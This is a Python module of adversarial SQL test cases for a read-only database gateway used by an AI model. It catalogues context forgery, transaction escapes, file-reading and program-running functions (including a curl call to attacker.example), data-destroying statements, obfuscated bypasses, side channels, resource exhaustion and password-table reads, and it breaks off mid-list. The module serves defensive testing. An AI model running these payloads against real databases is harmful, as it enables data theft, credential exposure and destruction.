"""Hostile SQL that a model might send, one case per attack and spelling.

Every attack in the security model appears here in several spellings: mixed case, quoted and
Unicode-escaped identifiers, comments, dollar quoting, ``pg_catalog.`` qualification, and hidden in
a CTE, a sub-select, a LATERAL join, a function in FROM, ROWS FROM, VALUES or an EXPLAIN.

``check_refuses`` is True when the statement check must refuse the text (``rule`` names the rule
it must break). It is False for legitimately shaped SQL that the *database* must make harmless:
row-level security, the statement timeout, the row cap or the result-size cap. For those,
``expect_db_error`` is the error code the call must end with (None: it must succeed), and ``note``
says what the database is expected to do.
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["ADVERSARIAL_CASES", "CATEGORIES", "AdversarialCase"]

CATEGORIES = (
    "context_forgery",
    "escape_read_only",
    "dangerous_function",
    "data_modifying",
    "obfuscation",
    "side_channel",
    "resource_exhaustion",
    "catalog_access",
)

ZERO = "00000000-0000-0000-0000-000000000000"
OTHER_STORE = "00000000-0000-0000-0000-0000000000ff"


@dataclass(frozen=True, slots=True)
class AdversarialCase:
    id: str
    category: str
    sql: str
    check_refuses: bool = True
    expect_db_error: str | None = None
    rule: str | None = None
    note: str = ""


def _refused(id: str, category: str, rule: str, sql: str) -> AdversarialCase:
    return AdversarialCase(id=id, category=category, sql=sql, rule=rule)


def _db(id: str, category: str, sql: str, expect_db_error: str | None, note: str) -> AdversarialCase:
    return AdversarialCase(
        id=id, category=category, sql=sql, check_refuses=False, expect_db_error=expect_db_error, note=note
    )


_SET = f"set_config('zava.principal', '{ZERO}', true)"

_CONTEXT_FORGERY = (
    _refused(
        "set_config_in_select_list",
        "context_forgery",
        "function_not_allowed",
        f"SELECT {_SET}, count(*) FROM retail.orders",
    ),
    _refused(
        "set_config_in_cte",
        "context_forgery",
        "function_not_allowed",
        f"WITH x AS (SELECT {_SET}) SELECT * FROM retail.orders, x",
    ),
    _refused(
        "set_config_in_lateral_subquery",
        "context_forgery",
        "function_not_allowed",
        f"SELECT * FROM retail.orders o, LATERAL (SELECT {_SET}) s",
    ),
    _refused("set_config_as_table_function", "context_forgery", "function_not_allowed", f"SELECT * FROM {_SET}"),
    _refused(
        "set_config_in_rows_from",
        "context_forgery",
        "function_not_allowed",
        "SELECT * FROM ROWS FROM (generate_series(1, 2), set_config('zava.ctx_nonce', 'x', true)) AS r(a, b)",
    ),
    _refused(
        "set_config_in_where_subselect",
        "context_forgery",
        "function_not_allowed",
        "SELECT count(*) FROM retail.orders WHERE (SELECT set_config('zava.ctx_sig', 'forged', true)) IS NOT NULL",
    ),
    _refused("set_config_in_values", "context_forgery", "function_not_allowed", f"VALUES ({_SET})"),
    _refused("set_config_in_explain", "context_forgery", "function_not_allowed", f"EXPLAIN SELECT {_SET}"),
    _refused(
        "set_config_in_case",
        "context_forgery",
        "function_not_allowed",
        f"SELECT CASE WHEN {_SET} IS NULL THEN 1 END FROM retail.stores",
    ),
    _refused(
        "set_config_in_aggregate_filter",
        "context_forgery",
        "function_not_allowed",
        f"SELECT count(*) FILTER (WHERE {_SET} <> '') FROM retail.orders",
    ),
    _refused(
        "set_config_in_window_partition",
        "context_forgery",
        "function_not_allowed",
        f"SELECT row_number() OVER (PARTITION BY {_SET}) FROM retail.orders",
    ),
    _refused(
        "set_config_in_join_condition",
        "context_forgery",
        "function_not_allowed",
        f"SELECT o.order_id FROM retail.orders o JOIN retail.stores s ON s.store_id = o.store_id AND {_SET} <> ''",
    ),
    _refused("set_config_inside_cast", "context_forgery", "function_not_allowed", f"SELECT CAST({_SET} AS uuid)"),
    _refused(
        "set_config_in_order_by",
        "context_forgery",
        "function_not_allowed",
        f"SELECT order_id FROM retail.orders ORDER BY {_SET}",
    ),
    _refused("set_statement", "context_forgery", "not_read_only", f"SET zava.principal = '{ZERO}'"),
    _refused("set_local_statement", "context_forgery", "not_read_only", f"SET LOCAL zava.principal TO '{ZERO}'"),
    _refused("set_session_nonce", "context_forgery", "not_read_only", "SET SESSION zava.ctx_nonce = 'x'"),
    _refused("reset_all", "context_forgery", "not_read_only", "RESET ALL"),
    _refused("reset_principal", "context_forgery", "not_read_only", "RESET zava.principal"),
    _refused("set_role", "context_forgery", "not_read_only", "SET ROLE postgres"),
    _refused("set_session_authorization", "context_forgery", "not_read_only", "SET SESSION AUTHORIZATION postgres"),
    _refused("set_row_security_off", "context_forgery", "not_read_only", "SET row_security = off"),
    _refused(
        "call_set_principal", "context_forgery", "function_not_allowed", f"SELECT zava_private.set_principal('{ZERO}')"
    ),
    _refused(
        "visible_store_ids_in_from",
        "context_forgery",
        "function_not_allowed",
        "SELECT * FROM zava_private.visible_store_ids()",
    ),
    _refused(
        "current_setting_principal",
        "context_forgery",
        "function_not_allowed",
        "SELECT current_setting('zava.principal')",
    ),
    _refused(
        "current_setting_signature_missing_ok",
        "context_forgery",
        "function_not_allowed",
        "SELECT current_setting('zava.ctx_sig', true), current_setting('zava.ctx_nonce', true)",
    ),
)

_ESCAPE_READ_ONLY = (
    _refused("commit_then_drop", "escape_read_only", "single_statement", "COMMIT; DROP TABLE retail.orders"),
    _refused("rollback_then_select", "escape_read_only", "single_statement", "ROLLBACK; SELECT * FROM retail.orders"),
    _refused("end_then_set", "escape_read_only", "single_statement", f"END; SET zava.principal = '{ZERO}'"),
    _refused("select_then_commit", "escape_read_only", "single_statement", "SELECT 1; COMMIT"),
    _refused("commit_hidden_after_comment", "escape_read_only", "single_statement", "SELECT 1 /* ; */ ;/**/COMMIT"),
    _refused("savepoint", "escape_read_only", "not_read_only", "SAVEPOINT a"),
    _refused("rollback_to_savepoint", "escape_read_only", "not_read_only", "ROLLBACK TO SAVEPOINT a"),
    _refused("begin", "escape_read_only", "not_read_only", "BEGIN"),
    _refused("start_transaction_read_write", "escape_read_only", "not_read_only", "START TRANSACTION READ WRITE"),
    _refused("set_transaction_read_write", "escape_read_only", "not_read_only", "SET TRANSACTION READ WRITE"),
    _refused("default_read_only_off", "escape_read_only", "not_read_only", "SET default_transaction_read_only = off"),
    _refused("commit_and_chain", "escape_read_only", "not_read_only", "COMMIT AND CHAIN"),
    _refused("abort", "escape_read_only", "not_read_only", "ABORT"),
    _refused("prepare_transaction", "escape_read_only", "not_read_only", "PREPARE TRANSACTION 'x'"),
    _refused(
        "do_block",
        "escape_read_only",
        "not_read_only",
        "DO $$BEGIN PERFORM set_config('zava.principal', '', false); END$$",
    ),
    _refused("call_procedure", "escape_read_only", "not_read_only", "CALL retail.refresh_everything()"),
    _refused("discard_all", "escape_read_only", "not_read_only", "DISCARD ALL"),
    _refused("prepare_statement", "escape_read_only", "not_read_only", "PREPARE p AS SELECT * FROM retail.orders"),
    _refused(
        "declare_cursor",
        "escape_read_only",
        "not_read_only",
        "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM retail.orders",
    ),
    _refused("listen", "escape_read_only", "not_read_only", "LISTEN zava"),
    _refused("lock_table", "escape_read_only", "not_read_only", "LOCK TABLE retail.orders IN ACCESS EXCLUSIVE MODE"),
)

_DANGEROUS_FUNCTION = (
    _refused("pg_sleep_in_select_list", "dangerous_function", "function_not_allowed", "SELECT pg_sleep(60)"),
    _refused("pg_sleep_as_table_function", "dangerous_function", "function_not_allowed", "SELECT * FROM pg_sleep(60)"),
    _refused(
        "pg_sleep_lateral",
        "dangerous_function",
        "function_not_allowed",
        "SELECT o.order_id FROM retail.orders o, LATERAL pg_sleep(10) AS s",
    ),
    _refused("pg_sleep_for", "dangerous_function", "function_not_allowed", "SELECT pg_sleep_for('1 minute')"),
    _refused("pg_sleep_until", "dangerous_function", "function_not_allowed", "SELECT pg_sleep_until('2100-01-01')"),
    _refused("pg_read_file", "dangerous_function", "function_not_allowed", "SELECT pg_read_file('/etc/passwd')"),
    _refused(
        "pg_read_binary_file_in_from",
        "dangerous_function",
        "function_not_allowed",
        "SELECT * FROM pg_read_binary_file('postgresql.conf') AS f(b)",
    ),
    _refused("pg_ls_dir_in_from", "dangerous_function", "function_not_allowed", "SELECT * FROM pg_ls_dir('.')"),
    _refused("pg_stat_file", "dangerous_function", "function_not_allowed", "SELECT pg_stat_file('postgresql.conf')"),
    _refused("lo_import", "dangerous_function", "function_not_allowed", "SELECT lo_import('/etc/passwd')"),
    _refused("lo_export", "dangerous_function", "function_not_allowed", "SELECT lo_export(16384, '/tmp/out')"),
    _refused("lo_get", "dangerous_function", "function_not_allowed", "SELECT lo_get(16384)"),
    _refused("copy_to_program", "dangerous_function", "not_read_only", "COPY (SELECT 1) TO PROGRAM 'id'"),
    _refused("copy_table_to_file", "dangerous_function", "not_read_only", "COPY retail.orders TO '/tmp/orders.csv'"),
    _refused(
        "copy_from_program",
        "dangerous_function",
        "not_read_only",
        "COPY retail.orders FROM PROGRAM 'curl http://attacker.example'",
    ),
    _refused(
        "dblink_in_from",
        "dangerous_function",
        "function_not_allowed",
        "SELECT * FROM dblink('host=attacker.example', 'SELECT 1') AS t(a int)",
    ),
    _refused(
        "dblink_exec",
        "dangerous_function",
        "function_not_allowed",
        "SELECT dblink_exec('dbname=zava', 'DROP TABLE retail.orders')",
    ),
    _refused(
        "pg_terminate_backend",
        "dangerous_function",
        "function_not_allowed",
        "SELECT pg_terminate_backend(12345)",
    ),
    _refused("pg_cancel_backend", "dangerous_function", "function_not_allowed", "SELECT pg_cancel_backend(1)"),
    _refused("pg_stat_reset", "dangerous_function", "function_not_allowed", "SELECT pg_stat_reset()"),
    _refused("pg_reload_conf", "dangerous_function", "function_not_allowed", "SELECT pg_reload_conf()"),
    _refused("nextval", "dangerous_function", "function_not_allowed", "SELECT nextval('products_product_id_seq')"),
    _refused("setval", "dangerous_function", "function_not_allowed", "SELECT setval('products_product_id_seq', 1)"),
    _refused("currval", "dangerous_function", "function_not_allowed", "SELECT currval('products_product_id_seq')"),
    _refused("advisory_lock", "dangerous_function", "function_not_allowed", "SELECT pg_advisory_lock(1)"),
    _refused(
        "try_advisory_lock_beside_a_count",
        "dangerous_function",
        "function_not_allowed",
        "SELECT pg_try_advisory_lock(1), count(*) FROM retail.orders",
    ),
    _refused("advisory_xact_lock", "dangerous_function", "function_not_allowed", "SELECT pg_advisory_xact_lock(42)"),
    _refused("txid_current", "dangerous_function", "function_not_allowed", "SELECT txid_current()"),
    _refused("pg_current_xact_id", "dangerous_function", "function_not_allowed", "SELECT pg_current_xact_id()"),
    _refused(
        "query_to_xml",
        "dangerous_function",
        "function_not_allowed",
        "SELECT query_to_xml('SELECT * FROM retail.principals', true, true, '')",
    ),
    _refused("xpath", "dangerous_function", "function_not_allowed", "SELECT xpath('/a', '<a/>')"),
    _refused("pg_notify", "dangerous_function", "function_not_allowed", "SELECT pg_notify('zava', 'hello')"),
    _refused("pg_switch_wal", "dangerous_function", "function_not_allowed", "SELECT pg_switch_wal()"),
    _refused(
        "pg_logical_slot_get_changes",
        "dangerous_function",
        "function_not_allowed",
        "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)",
    ),
    _refused("setseed", "dangerous_function", "function_not_allowed", "SELECT setseed(0.5)"),
    _refused("version", "dangerous_function", "function_not_allowed", "SELECT version()"),
    _refused("xmlelement", "dangerous_function", "function_not_allowed", "SELECT xmlelement(name a, 'x')"),
)

_DATA_MODIFYING = (
    _refused(
        "delete_cte",
        "data_modifying",
        "data_modifying_cte",
        "WITH d AS (DELETE FROM retail.orders RETURNING *) SELECT count(*) FROM d",
    ),
    _refused(
        "update_cte",
        "data_modifying",
        "data_modifying_cte",
        "WITH u AS (UPDATE retail.orders SET total_amount = 0 RETURNING 1) SELECT * FROM u",
    ),
    _refused(
        "insert_cte",
        "data_modifying",
        "data_modifying_cte",
        "WITH i AS (INSERT INTO retail.stores (store_name) VALUES ('x') RETURNING *) SELECT * FROM i",
    ),
    _refused(
        "merge_cte",
        "data_modifying",
        "data_modifying_cte",
        "WITH m AS (MERGE INTO retail.inventory i USING retail.products p ON i.product_id = p.product_id "
        "WHEN MATCHED THEN DELETE RETURNING i.product_id) SELECT count(*) FROM m",
    ),
    _refused(
        "delete_cte_nested_in_from",
        "data_modifying",
        "data_modifying_cte",
        "SELECT * FROM (WITH d AS (DELETE FROM retail.inventory RETURNING *) SELECT * FROM d) s",
    ),
    _refused(
        "delete_cte_in_scalar_subquery",
        "data_modifying",
        "data_modifying_cte",
        "SELECT (WITH d AS (DELETE FROM retail.orders RETURNING 1) SELECT count(*) FROM d)",
    ),
    _refused("select_into", "data_modifying", "select_into", "SELECT * INTO new_t FROM retail.orders"),
    _refused("select_into_temp", "data_modifying", "select_into", "SELECT * INTO TEMP t FROM retail.orders"),
    _refused("for_update", "data_modifying", "locking_clause", "SELECT * FROM retail.orders FOR UPDATE"),
    _refused(
        "for_share_skip_locked",
        "data_modifying",
        "locking_clause",
        "SELECT * FROM retail.inventory FOR SHARE SKIP LOCKED",
    ),
    _refused(
        "for_no_key_update_in_subquery",
        "data_modifying",
        "locking_clause",
        "SELECT * FROM (SELECT * FROM retail.orders FOR NO KEY UPDATE) s",
    ),
    _refused(
        "for_key_share_nowait", "data_modifying", "locking_clause", "SELECT * FROM retail.orders FOR KEY SHARE NOWAIT"
    ),
    _refused(
        "explain_analyze_delete", "data_modifying", "explain_analyze", "EXPLAIN ANALYZE DELETE FROM retail.orders"
    ),
    _refused(
        "explain_analyze_option_select",
        "data_modifying",
        "explain_analyze",
        "EXPLAIN (ANALYZE) SELECT * FROM retail.orders",
    ),
    _refused(
        "explain_analyze_json_update",
        "data_modifying",
        "explain_analyze",
        "EXPLAIN (ANALYZE true, FORMAT JSON) UPDATE retail.orders SET status = 'x'",
    ),
    _refused("explain_delete", "data_modifying", "not_read_only", "EXPLAIN DELETE FROM retail.orders"),
    _refused("delete", "data_modifying", "not_read_only", "DELETE FROM retail.orders"),
    _refused("update", "data_modifying", "not_read_only", "UPDATE retail.inventory SET stock_level = 0"),
    _refused("insert", "data_modifying", "not_read_only", "INSERT INTO retail.orders DEFAULT VALUES"),
    _refused("truncate", "data_modifying", "not_read_only", "TRUNCATE retail.orders"),
    _refused("drop_table", "data_modifying", "not_read_only", "DROP TABLE retail.orders"),
    _refused("create_table_as", "data_modifying", "not_read_only", "CREATE TABLE x AS SELECT * FROM retail.orders"),
    _refused("disable_rls", "data_modifying", "not_read_only", "ALTER TABLE retail.orders DISABLE ROW LEVEL SECURITY"),
    _refused("grant", "data_modifying", "not_read_only", "GRANT ALL ON retail.principals TO PUBLIC"),
)

_OBFUSCATION = (
    _refused(
        "unicode_escaped_set_config",
        "obfuscation",
        "function_not_allowed",
        rf"""SELECT U&"\0073et_config"('zava.principal', '{ZERO}', true)""",
    ),
    _refused(
        "unicode_escape_with_uescape",
        "obfuscation",
        "function_not_allowed",
        f"SELECT U&\"!0073et_config\" UESCAPE '!'('zava.principal', '{ZERO}', true)",
    ),
    _refused(
        "unicode_escaped_pg_sleep_in_from", "obfuscation", "function_not_allowed", r'SELECT * FROM U&"pg\005fsleep"(5)'
    ),
    _refused(
        "quoted_set_config",
        "obfuscation",
        "function_not_allowed",
        f"SELECT \"set_config\"('zava.principal', '{ZERO}', true)",
    ),
    _refused(
        "mixed_case_set_config",
        "obfuscation",
        "function_not_allowed",
        f"SELECT SeT_CoNfIg('zava.principal', '{ZERO}', TRUE)",
    ),
    _refused(
        "comment_between_name_and_paren",
        "obfuscation",
        "function_not_allowed",
        f"SELECT set_config/**/('zava.principal', '{ZERO}', true)",
    ),
    _refused(
        "newlines_and_line_comment",
        "obfuscation",
        "function_not_allowed",
        f"SELECT\n\tset_config -- innocent\n(\n'zava.principal', '{ZERO}', true)",
    ),
    _refused(
        "pg_catalog_qualified_set_config",
        "obfuscation",
        "function_not_allowed",
        f"SELECT pg_catalog.set_config('zava.principal', '{ZERO}', true)",
    ),
    _refused(
        "quoted_qualified_set_config",
        "obfuscation",
        "function_not_allowed",
        f"SELECT \"pg_catalog\".\"set_config\"('zava.principal', '{ZERO}', true)",
    ),
    _refused(
        "upper_case_qualified_set_config",
        "obfuscation",
        "function_not_allowed",
        f"SELECT PG_CATALOG.SET_CONFIG('zava.principal', '{ZERO}', true)",
    ),
    _refused(
        "dollar_quoted_arguments",
        "obfuscation",
        "function_not_allowed",
        f"SELECT set_config($$zava.principal$$, $x${ZERO}$x$, true)",
    ),
    _refused(
        "escape_string_arguments",
        "obfuscation",
        "function_not_allowed",
        f"SELECT set_config(E'zava\\x2eprincipal', '{ZERO}', true)",
    ),
    _refused(
        "cyrillic_lookalike_name",
        "obfuscation",
        "function_not_allowed",
        f"SELECT ѕet_config('zava.principal', '{ZERO}', true)",
    ),
    _refused("comment_splits_keyword", "obfuscation", "syntax_error", "SEL/**/ECT 1; DROP TABLE retail.orders"),
    _refused("leading_comment_hides_delete", "obfuscation", "not_read_only", "/* SELECT */ DELETE FROM retail.orders"),
    _refused("line_comment_hides_delete", "obfuscation", "not_read_only", "-- SELECT 1\nDELETE FROM retail.orders"),
    _refused(
        "pg_catalog_pg_sleep_in_from", "obfuscation", "function_not_allowed", "SELECT * FROM pg_catalog.pg_sleep(1)"
    ),
    _refused(
        "explain_of_unicode_escaped_pg_sleep",
        "obfuscation",
        "function_not_allowed",
        r'EXPLAIN SELECT U&"\0070g_sleep"(1)',
    ),
    _refused(
        "quoted_zava_private_function",
        "obfuscation",
        "function_not_allowed",
        f'SELECT "zava_private"."set_principal"(\'{ZERO}\')',
    ),
    _refused(
        "operator_in_private_schema", "obfuscation", "operator_not_allowed", "SELECT 1 OPERATOR(zava_private.+) 1"
    ),
    _refused("nul_byte_truncation", "obfuscation", "syntax_error", "SELECT 1\x00; DROP TABLE retail.orders"),
)

_SIDE_CHANNEL = (
    _db(
        "division_by_zero_probe",
        "side_channel",
        f"SELECT 1 / (CASE WHEN store_id <> '{OTHER_STORE}' THEN 1 ELSE 0 END) FROM retail.orders",
        None,
        "RLS hides the other store's rows, so the division never sees them and no error reveals them.",
    ),
    _db(
        "cast_store_name_to_int",
        "side_channel",
        "SELECT CAST(store_name AS int) FROM retail.stores",
        "DATABASE_ERROR",
        "The error may quote a visible store's name only, never another tenant's.",
    ),
    _db(
        "cast_in_where_before_rls",
        "side_channel",
        "SELECT * FROM retail.stores WHERE store_name::int > 0",
        "DATABASE_ERROR",
        "RLS quals run before non-leakproof casts; the error may quote only a visible name.",
    ),
    _db(
        "count_other_store",
        "side_channel",
        f"SELECT count(*) FROM retail.orders WHERE store_id = '{OTHER_STORE}'",
        None,
        "Returns 0 unless the principal may see that store.",
    ),
    _db(
        "exists_probe_with_heavy_branch",
        "side_channel",
        f"SELECT CASE WHEN EXISTS (SELECT 1 FROM retail.orders WHERE store_id = '{OTHER_STORE}') "
        "THEN (SELECT count(*) FROM generate_series(1, 100000)) END",
        None,
        "RLS makes the EXISTS false for a principal without that store: no timing difference.",
    ),
    _db(
        "error_on_invisible_count",
        "side_channel",
        f"SELECT CASE WHEN (SELECT count(*) FROM retail.customers WHERE store_id = '{OTHER_STORE}') > 0 "
        "THEN 1 / (SELECT count(*) - count(*) FROM retail.customers) END",
        None,
        "The count is 0 for a principal who cannot see the store, so the division never runs. "
        "(The divisor is a query, not 1 / 0, which the planner would fold and raise for everyone.)",
    ),
    _refused(
        "timing_probe_with_pg_sleep",
        "side_channel",
        "function_not_allowed",
        f"SELECT CASE WHEN EXISTS (SELECT 1 FROM retail.orders WHERE store_id = '{OTHER_STORE}') THEN pg_sleep(5) END",
    ),
    _refused("system_columns", "side_channel", "system_column", "SELECT xmin, xmax, ctid FROM retail.orders"),
    _refused("tableoid_cast_to_int", "side_channel", "system_column", "SELECT tableoid::int FROM retail.orders"),
    _refused(
        "current_user_and_session_user", "side_channel", "function_not_allowed", "SELECT current_user, session_user"
    ),
    _refused("backend_pid", "side_channel", "function_not_allowed", "SELECT pg_backend_pid()"),
    _refused("server_address", "side_channel", "function_not_allowed", "SELECT inet_server_addr(), inet_server_port()"),
)

_RESOURCE_EXHAUSTION = (
    _refused(
        "generate_series_billion",
        "resource_exhaustion",
        "generate_series_bound",
        "SELECT count(*) FROM generate_series(1, 1000000000)",
    ),
    _refused(
        "cartesian_with_generate_series_billion",
        "resource_exhaustion",
        "generate_series_bound",
        "SELECT count(*) FROM retail.orders, generate_series(1, 1000000000) g",
    ),
    _refused(
        "generate_series_float_bound", "resource_exhaustion", "generate_series_bound", "SELECT generate_series(1, 1e12)"
    ),
    _db(
        "generate_series_computed_bound",
        "resource_exhaustion",
        "SELECT count(*) FROM generate_series(1, (SELECT count(*) FROM retail.orders) * 1000000000)",
        "QUERY_TIMEOUT",
        "A computed end the check cannot bound runs: its rows spill to temp files until the statement "
        "timeout (or temp_file_limit) stops it.",
    ),
    _db(
        "generate_series_computed_bound_rows",
        "resource_exhaustion",
        "SELECT * FROM generate_series(1, (SELECT count(*) FROM retail.orders) * 1000)",
        None,
        "Millions of rows from a computed end: the row cap cuts the result inside PostgreSQL.",
    ),
    _refused(
        "generate_series_constant_calendar_too_long",
        "resource_exhaustion",
        "generate_series_bound",
        "SELECT * FROM generate_series(timestamp '2000-01-01', timestamp '2100-01-01', interval '1 second')",
    ),
    _refused("repeat_hundred_million", "resource_exhaustion", "string_size_bound", "SELECT repeat('x', 100000000)"),
    _refused("lpad_billion", "resource_exhaustion", "string_size_bound", "SELECT lpad('', 1000000000, 'x')"),
    _refused(
        "rpad_computed_length",
        "resource_exhaustion",
        "string_size_bound",
        "SELECT rpad('x', (SELECT count(*)::int FROM retail.orders) * 100000)",
    ),
    _refused("format_huge_width", "resource_exhaustion", "string_size_bound", "SELECT format('%999999999s', 'x')"),
    _refused("format_star_width", "resource_exhaustion", "string_size_bound", "SELECT format('%*s', 1000000000, 'x')"),
    _refused("factorial", "resource_exhaustion", "function_not_allowed", "SELECT factorial(100000)"),
    _db(
        "recursive_cte_without_end",
        "resource_exhaustion",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        "QUERY_TIMEOUT",
        "Never terminates; the statement timeout must cancel it.",
    ),
    _db(
        "triple_cartesian_count",
        "resource_exhaustion",
        "SELECT count(*) FROM retail.order_items a, retail.order_items b, retail.order_items c",
        "QUERY_TIMEOUT",
        "Cubic in the row count; the statement timeout must cancel it.",
    ),
    _db(
        "two_bounded_series_cartesian",
        "resource_exhaustion",
        "SELECT count(*) FROM generate_series(1, 100000) a, generate_series(1, 100000) b",
        "QUERY_TIMEOUT",
        "Each series is within bounds; the product (10^10 rows) must hit the timeout.",
    ),
    _db(
        "per_row_calendar_series",
        "resource_exhaustion",
        "SELECT count(*) FROM retail.orders o, "
        "generate_series(o.order_date::timestamp, o.order_date + interval '100 years', interval '1 second') g",
        "QUERY_TIMEOUT",
        "A calendar driven by data is accepted; the statement timeout must cancel it.",
    ),
    _db(
        "half_megabyte_value",
        "resource_exhaustion",
        "SELECT string_agg(repeat('x', 50), '') FROM generate_series(1, 10000)",
        "RESOURCE_LIMIT",
        "One 500 kB value, under the static bound: the result-size cap must refuse to return it.",
    ),
    _db(
        "hundred_thousand_rows",
        "resource_exhaustion",
        "SELECT * FROM generate_series(1, 100000) AS g(n)",
        None,
        "The row cap must truncate the result and set the truncated flag.",
    ),
    _db(
        "self_cartesian_rows",
        "resource_exhaustion",
        "SELECT o1.order_id, o2.order_id FROM retail.orders o1 CROSS JOIN retail.orders o2",
        None,
        "The row cap must truncate the result (or the timeout cancel it); never the full product.",
    ),
)

_CATALOG_ACCESS = (
    _refused("pg_stat_activity", "catalog_access", "relation_not_allowed", "SELECT * FROM pg_stat_activity"),
    _refused("pg_settings_qualified", "catalog_access", "relation_not_allowed", "SELECT * FROM pg_catalog.pg_settings"),
    _refused(
        "pg_settings_zava",
        "catalog_access",
        "relation_not_allowed",
        "SELECT name, setting FROM pg_settings WHERE name LIKE 'zava.%'",
    ),
    _refused(
        "information_schema_tables", "catalog_access", "relation_not_allowed", "SELECT * FROM information_schema.tables"
    ),
    _refused("principals", "catalog_access", "relation_not_allowed", "SELECT * FROM retail.principals"),
    _refused(
        "principal_stores_unqualified", "catalog_access", "relation_not_allowed", "SELECT * FROM principal_stores"
    ),
    _refused("zava_private_table", "catalog_access", "relation_not_allowed", "SELECT * FROM zava_private.secrets"),
    _refused("pg_authid", "catalog_access", "relation_not_allowed", "SELECT rolname, rolpassword FROM pg_authid"),
    _refused("pg_shadow", "catalog_access", "relation_not_allowed", "SELECT usename, passwd FROM pg_shadow"),
    _refused("pg_class", "catalog_access", "relation_not_allowed", "SELECT relname FROM pg_class"),
    _refused("public_schema_table", "catalog_access", "relation_not_allowed", "SELECT * FROM public.orders"),
    _refused(
        "catalog_joined_to_orders",
        "catalog_access",
        "relation_not_allowed",
        "SELECT o.order_id FROM retail.orders o JOIN pg_catalog.pg_roles r ON true",
    ),
    _refused(
        "catalog_in_cte",
        "catalog_access",
        "relation_not_allowed",
        "WITH s AS (SELECT * FROM pg_settings) SELECT * FROM s",
    ),
    _refused(
        "catalog_in_exists",
        "catalog_access",
        "relation_not_allowed",
        "SELECT count(*) FROM retail.orders WHERE EXISTS (SELECT 1 FROM pg_stat_activity)",
    ),
    _refused(
        "cte_name_out_of_scope",
        "catalog_access",
        "relation_not_allowed",
        "SELECT * FROM (WITH pg_settings AS (SELECT 1 AS x) SELECT * FROM pg_settings) a, pg_settings",
    ),
    _refused(
        "non_recursive_cte_self_reference",
        "catalog_access",
        "relation_not_allowed",
        "WITH pg_settings AS (SELECT * FROM pg_settings) SELECT * FROM pg_settings",
    ),
    _refused(
        "cte_forward_reference",
        "catalog_access",
        "relation_not_allowed",
        "WITH a AS (SELECT * FROM pg_roles), pg_roles AS (SELECT 1) SELECT * FROM a",
    ),
    _refused(
        "quoted_upper_case_cte_name",
        "catalog_access",
        "relation_not_allowed",
        'WITH "PG_CLASS" AS (SELECT 1) SELECT * FROM pg_class',
    ),
    _refused("three_part_name", "catalog_access", "relation_not_allowed", "SELECT * FROM zava.retail.orders"),
    _refused("table_statement_on_catalog", "catalog_access", "relation_not_allowed", "TABLE pg_settings"),
    _refused("regclass_cast", "catalog_access", "type_not_allowed", "SELECT 'retail.orders'::regclass::oid"),
    _refused("regproc_array_cast", "catalog_access", "type_not_allowed", "SELECT '{pg_sleep}'::_regproc"),
    _refused(
        "has_table_privilege",
        "catalog_access",
        "function_not_allowed",
        "SELECT has_table_privilege('retail.principals', 'SELECT')",
    ),
    _refused(
        "pg_get_functiondef",
        "catalog_access",
        "function_not_allowed",
        "SELECT pg_get_functiondef('zava_private.set_principal'::regproc)",
    ),
    _refused(
        "json_table_over_catalog",
        "catalog_access",
        "relation_not_allowed",
        "SELECT * FROM JSON_TABLE((SELECT json_agg(rolname) FROM pg_roles), '$[*]' COLUMNS (r text PATH '$')) t",
    ),
)

# --- security issue 7: attribute notation, SQL-string functions, duplicate options, amplification,
# parse-cost bombs. PostgreSQL reads (expr).f and alias.f as f(expr) when no column f exists; the
# check must resolve every such name, in every clause and on every kind of expression.

_SIG = "('zava.ctx_sig'::text).current_setting"
_FIELD = "field_selection"
_COLUMN = "column_not_resolved"


def _attribute(id: str, rule: str, sql: str, category: str = "side_channel") -> AdversarialCase:
    return _refused(f"attribute_{id}", category, rule, sql)


_ATTRIBUTE_NOTATION = (
    # On every kind of expression.
    _attribute("on_literal_cast", _FIELD, f"SELECT {_SIG}", "context_forgery"),
    _attribute("on_literal_uppercase", _FIELD, "SELECT ('zava.ctx_sig'::TEXT).CURRENT_SETTING", "context_forgery"),
    _attribute("on_literal_quoted", _FIELD, "SELECT ('zava.ctx_sig'::text).\"current_setting\"", "context_forgery"),
    _attribute("on_dollar_quoted", _FIELD, "SELECT ($x$zava.ctx_sig$x$::text).current_setting", "context_forgery"),
    _attribute(
        "nested_casts_to_statistics",
        _FIELD,
        "SELECT ((('retail.orders'::text).regclass)::oid).pg_stat_get_live_tuples",
    ),
    _attribute("on_function_result", _FIELD, "SELECT (lower('ZAVA.CTX_SIG')).current_setting", "context_forgery"),
    _attribute("on_scalar_subselect", _FIELD, "SELECT ((SELECT 'zava.ctx_sig'::text)).current_setting"),
    _attribute("on_row", _FIELD, "SELECT (ROW('zava.ctx_sig')).current_setting"),
    _attribute("on_series_column", _FIELD, "SELECT (g).pg_stat_get_backend_activity FROM generate_series(1, 300) g"),
    _attribute("on_series_qualified", _COLUMN, "SELECT g.pg_stat_get_backend_pid FROM generate_series(1, 300) g"),
    _attribute(
        "ts_stat_runs_sql_string",
        _FIELD,
        "SELECT (s.r).word FROM (SELECT ($q$SELECT to_tsvector(rolname) FROM pg_roles$q$::text).ts_stat AS r) s",
        "catalog_access",
    ),
    _attribute(
        "alias_of_subselect_without_the_column",
        _COLUMN,
        "SELECT o.pg_stat_get_live_tuples FROM (SELECT 16384 AS relid) o",
    ),
    _attribute("alias_of_table_without_the_column", _COLUMN, "SELECT o.pg_relation_size FROM retail.orders o"),
    _attribute(
        "schema_qualified_table_without_the_column",
        _COLUMN,
        "SELECT retail.orders.pg_relation_size FROM retail.orders",
    ),
    _attribute("uppercase_alias", _COLUMN, "SELECT O.PG_RELATION_SIZE FROM retail.orders o"),
    _attribute(
        "cte_without_the_column",
        _COLUMN,
        "WITH c AS (SELECT 'zava.ctx_sig'::text AS q) SELECT c.current_setting FROM c",
    ),
    _attribute("values_alias", _COLUMN, "SELECT v.current_setting FROM (VALUES ('zava.ctx_sig'::text)) v"),
    _attribute("unnamed_column_of_subselect", _COLUMN, "SELECT t.ts_stat FROM (SELECT 'SELECT 1'::text) t"),
    # In every clause.
    _attribute("in_where", _FIELD, f"SELECT count(*) FROM retail.orders WHERE {_SIG} IS NOT NULL"),
    _attribute("in_group_by", _FIELD, f"SELECT count(*) FROM retail.orders GROUP BY {_SIG}"),
